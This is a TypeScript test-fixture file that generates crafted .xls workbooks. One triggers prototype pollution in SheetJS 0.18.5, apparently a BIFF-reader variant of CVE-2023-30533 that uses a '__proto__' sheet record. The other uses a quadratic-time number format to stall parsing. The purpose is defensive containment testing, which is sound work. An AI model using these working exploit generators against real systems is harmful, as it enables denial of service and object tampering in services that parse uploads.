/**
 * Legacy workbooks crafted against SheetJS 0.18.5 (the `xlsx` package), the parser of `.xls`
 * uploads, to prove that the extraction worker contains what that parser does with them.
 */
import { sheetjs } from '../src/features/documents/extraction/sheetjs';
import { type SheetFixture, xlsFile } from './document-fixtures';

/** The key SheetJS 0.18.5 sets on Object.prototype when it reads `prototypePollutingXls`. */
export const POLLUTED_KEY = '!autofilter';

const BOUND_SHEET = 0x0085;
const LBL = 0x0018;
const EOF = 0x000a;

function record(type: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(4);
  header.writeUInt16LE(type, 0);
  header.writeUInt16LE(payload.length, 2);
  return Buffer.concat([header, payload]);
}

/** A BoundSheet8 naming a worksheet whose substream would start at `position`. */
function boundSheet(name: string, position: number): Buffer {
  const payload = Buffer.alloc(8 + name.length);
  payload.writeUInt32LE(position, 0);
  payload[6] = name.length;
  payload[7] = 0; // 8-bit characters
  payload.write(name, 8, 'latin1');
  return record(BOUND_SHEET, payload);
}

/** The built-in `_FilterDatabase` name of the sheet at 1-based `sheet`: rows 1-2, columns A-B. */
function filterDatabaseName(sheet: number): Buffer {
  const payload = Buffer.alloc(27);
  payload.writeUInt16LE(0x0020, 0); // fBuiltin
  payload[3] = 1; // one character: the built-in name's number
  payload.writeUInt16LE(11, 4); // formula size
  payload.writeUInt16LE(sheet, 8); // itab
  payload[15] = 0x0d; // _FilterDatabase
  payload[16] = 0x3b; // PtgArea3d
  payload.writeUInt16LE(1, 21); // last row
  payload.writeUInt16LE(1, 25); // last column
  return record(LBL, payload);
}

/**
 * A legacy workbook with `sheets` that pollutes Object.prototype when SheetJS 0.18.5 reads it.
 * Once the sheets are read, SheetJS sets `Sheets[name]['!autofilter']` for every sheet with a
 * `_FilterDatabase` name; here one sheet is listed as `__proto__` but has no substream, so it has no
 * entry of its own in `Sheets` and `Sheets['__proto__']` is Object.prototype itself. (The public
 * proof of CVE-2023-30533 uses an OOXML comment, a reader `.xls` uploads never reach.)
 */
export function prototypePollutingXls(sheets: SheetFixture[]): Uint8Array {
  const { CFB } = sheetjs();
  const container = CFB.read(Buffer.from(xlsFile(sheets)), { type: 'buffer' });
  const content = CFB.find(container, '/Workbook')?.content;
  if (!content) throw new Error('no Workbook stream');
  const stream = Buffer.from(content as Uint8Array);

  // The globals substream comes first: its BoundSheet8 records, then its EOF.
  const positions: number[] = [];
  let globalsEnd = 0;
  while (stream.readUInt16LE(globalsEnd) !== EOF) {
    if (stream.readUInt16LE(globalsEnd) === BOUND_SHEET) positions.push(globalsEnd + 4);
    globalsEnd += 4 + stream.readUInt16LE(globalsEnd + 2);
  }
  const inserted = Buffer.concat([
    boundSheet('__proto__', 0x7fffffff),
    filterDatabaseName(sheets.length + 1),
  ]);
  for (const at of positions) stream.writeUInt32LE(stream.readUInt32LE(at) + inserted.length, at);
  const workbook = Buffer.concat([stream.subarray(0, globalsEnd), inserted, stream.subarray(globalsEnd)]);

  const crafted = CFB.utils.cfb_new();
  CFB.utils.cfb_add(crafted, 'Workbook', workbook);
  return new Uint8Array(CFB.write(crafted, { type: 'buffer' }) as Buffer);
}

/**
 * A number format SheetJS 0.18.5 takes quadratic time to apply: for each `[$…]` block it rescans
 * the whole format (`fmt_is_date`). Excel would refuse it (255 characters at most); SheetJS reads it.
 */
export const slowNumberFormat = (blocks = 2_000): string => `${'[$x]'.repeat(blocks)}0`;

/**
 * A legacy workbook of `cells` numbers under `slowNumberFormat`: SheetJS 0.18.5 formats each
 * number as it reads the file, in one synchronous call, for a fifth of a second or more per cell.
 */
export function slowFormatXls(cells: number): Uint8Array {
  const XLSX = sheetjs();
  const sheet = XLSX.utils.aoa_to_sheet(Array.from({ length: cells }, (_, i) => [i + 0.5]));
  const format = slowNumberFormat();
  for (let r = 0; r < cells; r++) {
    const cell = sheet[XLSX.utils.encode_cell({ r, c: 0 })];
    if (cell) cell.z = format;
  }
  const workbook = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(workbook, sheet, 'Importi');
  return new Uint8Array(XLSX.write(workbook, { type: 'buffer', bookType: 'biff8' }) as Buffer);
}
